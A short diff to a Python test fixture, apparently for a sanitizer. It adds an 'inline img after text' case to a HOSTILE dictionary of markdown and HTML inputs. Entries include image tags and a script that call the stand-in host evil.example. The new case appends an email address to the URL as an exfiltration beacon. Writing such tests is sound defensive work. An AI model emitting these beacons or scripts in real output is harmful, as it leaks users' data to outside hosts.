@@ -31,6 +31,7 @@ HOSTILE = {
     "image in emphasis": "**![x](http://evil.example/p.png)**",
     "raw img": '<img src="http://evil.example/p.png">',
     "uppercase img": "<IMG SRC=http://evil.example/p.png>",
+    "inline img after text": 'Done.<img src="http://evil.example/p.png?e=a@b.example">',
     "img html block": '<div>\n<img src="http://evil.example/p.png">\n</div>',
     "script": "<script>fetch('http://evil.example')</script>",
     "entity img": "&lt;img src=http://evil.example/p.png&gt;",
